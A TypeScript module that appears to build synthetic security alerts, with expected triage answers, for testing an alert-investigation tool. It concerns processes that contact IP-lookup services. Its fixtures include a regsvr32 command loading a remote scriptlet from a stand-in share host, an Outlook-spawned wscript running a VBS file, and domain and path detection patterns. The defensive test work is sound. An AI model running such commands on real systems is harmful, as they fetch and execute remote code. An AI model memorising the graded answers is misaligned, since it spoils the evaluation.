import type { SourceId } from '../../../common/sources';
import type { Answer, Disposition, ExpectedAnswer } from '../story';
import type { MatchedEntry } from '../expected_alert';
import type { Host } from '../world/host';
import { expiredProgram, program, type Program } from '../world/program';
import { programs } from '../world/programs';
import { publicIpService } from './public_ip_service';
import { reasons } from './reasons';
import { StoryRecorder, ago } from './story_recorder';
import type { Cast } from '../world/cast';
import type { Telling } from './stage';

/** A short story of some hours ago: a process that the desktop or a parent starts, one lookup, one connection. */
interface EarlierAlert {
  readonly id: string;
  readonly sourceId: SourceId;
  readonly title: string;
  readonly summary: string;
  readonly host: keyof Cast;
  readonly hoursAgo: number;
  readonly parent?: Program;
  readonly program: Program;
  readonly commandLine?: string;
  readonly domain: string;
  readonly domainEntry?: string;
  readonly reasons: readonly MatchedEntry[];
  readonly identity: ExpectedAnswer;
  readonly launch: ExpectedAnswer;
  readonly disposition: Disposition;
  readonly dispositionBecause: string;
}

const autoIt = program(
  'C:\\Users\\greta\\AppData\\Roaming\\kiosk\\menu.exe',
  'AutoIt Consulting Ltd'
);
const expired = expiredProgram('C:\\Program Files\\Sandpiper\\sync.exe', 'Sandpiper Ltd');
const javaHost = program(
  'C:\\Program Files\\Eider CI\\jre\\bin\\javaw.exe',
  'Eclipse.org Foundation'
);
const tool = program('C:\\Users\\Public\\nettool.exe');

const earlier: readonly EarlierAlert[] = [
  {
    id: 'expired_certificate',
    sourceId: 'endpoint',
    title: 'A program whose certificate has run out',
    summary:
      'sync.exe in Program Files is signed, but its certificate has expired, which the rule takes as untrusted. That is no missing signature. Probably an old version of real software; unresolved until the vendor or owner confirms it.',
    host: 'developer',
    hoursAgo: 5.2,
    program: expired,
    domain: 'api.db-ip.com',
    reasons: [reasons.untrusted],
    identity: {
      answer: 'unresolved',
      because:
        'It is signed by Sandpiper Ltd with an expired certificate: neither unsigned nor trusted.',
    },
    launch: { answer: 'unresolved', because: 'The user started it from the desktop.' },
    disposition: 'unresolved',
    dispositionBecause: 'It reached the service, but identity and chain decide nothing.',
  },
  {
    id: 'kiosk_menu',
    sourceId: 'sentinel_one_cloud_funnel',
    title: 'A compiled AutoIt script in a user profile',
    summary:
      'A compiled AutoIt script with the signature of the AutoIt runtime reaches freegeoip.app from a kiosk. The signer says who made the runtime, not the script. Unresolved until the owner of the kiosk is asked.',
    host: 'kiosk',
    hoursAgo: 9.4,
    program: autoIt,
    domain: 'freegeoip.app',
    reasons: [reasons.signer('AutoIt Consulting Ltd')],
    identity: {
      answer: 'escalates',
      because: 'A scripting runtime in a user profile; its signature covers any script.',
    },
    launch: { answer: 'unresolved', because: 'The desktop started it at logon.' },
    disposition: 'unresolved',
    dispositionBecause:
      'A runtime reached the service, and the chain neither explains nor accuses it.',
  },
  {
    id: 'build_job',
    sourceId: 'crowdstrike_fdr',
    title: 'A build job on a server with CrowdStrike',
    summary:
      'javaw.exe of a build system asks for httpbin.org, which is also used to test HTTP clients. The service on the list is a by-product here. Unresolved: the job has to be found.',
    host: 'buildServer',
    hoursAgo: 12.7,
    program: javaHost,
    domain: 'httpbin.org',
    reasons: [reasons.name('javaw.exe')],
    identity: { answer: 'escalates', because: 'javaw.exe is a runtime for any program.' },
    launch: { answer: 'unresolved', because: 'The parent is known by name only.' },
    disposition: 'unresolved',
    dispositionBecause: 'A runtime reached a service with many uses, and nothing followed.',
  },
  {
    id: 'script_in_mail',
    sourceId: 'windows_sysmon_operational',
    title: 'A script from a mail asks for a tracking service',
    summary:
      'Outlook starts wscript.exe, which resolves an iplogger name and connects. Escalate: a script host as a child of a mail program, which reports to a tracker.',
    host: 'downloader',
    hoursAgo: 15.3,
    parent: programs.outlook,
    program: programs.wscript,
    commandLine: 'wscript.exe "C:\\Users\\mira\\AppData\\Local\\Temp\\parcel_notice.vbs"',
    domain: 'iplogger.org',
    domainEntry: 'iplogger.*',
    reasons: [reasons.name('wscript.exe')],
    identity: { answer: 'escalates', because: 'wscript.exe is a script host.' },
    launch: { answer: 'escalates', because: 'A program of Office started it.' },
    disposition: 'escalate',
    dispositionBecause: 'The chain and the connection to the tracker agree.',
  },
  {
    id: 'shared_tool',
    sourceId: 'windows_forwarded',
    title: 'A tool in the public profile, seen through forwarded events',
    summary:
      'nettool.exe in the public profile, where every user can write, asks for a dynamic portmap name. Unresolved: who put it there is not recorded.',
    host: 'branchOffice',
    hoursAgo: 18.1,
    program: tool,
    domain: 'harbour-relay.portmap.io',
    domainEntry: '*portmap.io',
    reasons: [reasons.path('?:\\Users\\Public\\*.exe')],
    identity: { answer: 'escalates', because: 'Every user can write where the program lies.' },
    launch: { answer: 'unresolved', because: 'The desktop started it; no more is known.' },
    disposition: 'unresolved',
    dispositionBecause: 'It reached the address, but nobody knows yet what the tool is for.',
  },
  {
    id: 'without_pipeline',
    sourceId: 'winlogbeat',
    title: 'A library registered from a share, on a host without ingest pipeline',
    summary:
      'regsvr32.exe, started by a command prompt, registers a file from a share, resolves api.ip.sb and connects. The events have no time of ingestion, so that they are found by `@timestamp`. Escalate: code from a share reaches out.',
    host: 'withoutPipeline',
    hoursAgo: 2.6,
    parent: programs.cmd,
    program: programs.regsvr32,
    commandLine: 'regsvr32.exe /s /i:\\\\files.harbour.example\\pub\\x.sct scrobj.dll',
    domain: 'api.ip.sb',
    reasons: [reasons.name('regsvr32.exe')],
    identity: { answer: 'escalates', because: 'regsvr32.exe runs code of any library.' },
    launch: {
      answer: 'escalates',
      because: 'A command prompt started it with a script from a share: a known misuse.',
    },
    disposition: 'escalate',
    dispositionBecause: 'A misused tool ran code from a share and reached the service.',
  },
];

/** Stories of two to twenty hours ago, which give histograms and lists a shape. */
export const earlierAlerts: readonly Telling[] = earlier.map((alert) => (stage) => {
  const story = new StoryRecorder(stage, alert.id, alert.sourceId);
  const host: Host = stage.cast[alert.host];
  const { desktop } = stage.residentsOf(host);
  const begun = ago(alert.hoursAgo * 60);
  const service = publicIpService(alert.domain);
  const parent =
    alert.parent === undefined
      ? desktop
      : story.start('lineage', desktop, { program: alert.parent, before: begun + ago(2) });
  const run = story.start('process', parent, {
    program: alert.program,
    before: begun,
    ...(alert.commandLine === undefined ? {} : { commandLine: alert.commandLine }),
  });
  story.lookup('dns', run, service, begun - ago(0, 5), {
    reasons: alert.reasons,
    ...(alert.domainEntry === undefined ? {} : { domainEntry: alert.domainEntry }),
  });
  story.connect('network', run, { address: service.ipv4[0], port: 443 }, begun - ago(0, 6));
  story.end('process', run, begun - ago(1, 30));
  const suspicious: Answer = alert.identity.answer === 'escalates' ? 'escalates' : 'unresolved';
  return story.told({
    title: alert.title,
    summary: alert.summary,
    expectedDisposition: alert.disposition,
    dispositionBecause: alert.dispositionBecause,
    answers: {
      dns_outcome: {
        answer: suspicious,
        because:
          suspicious === 'escalates'
            ? 'A suspicious process resolved the service.'
            : 'The name resolved; whether the process is suspicious is open.',
      },
      binary_identity: alert.identity,
      launch_chain: alert.launch,
      connections: { answer: 'escalates', because: 'It connected to the resolved address.' },
      follow_on_commands: {
        answer: 'unresolved',
        because: 'No child is recorded, but identity supports no known check.',
      },
      related_alerts: {
        answer: 'unresolved',
        because: 'No other host or user has alerts of the same program and name.',
      },
    },
  });
});
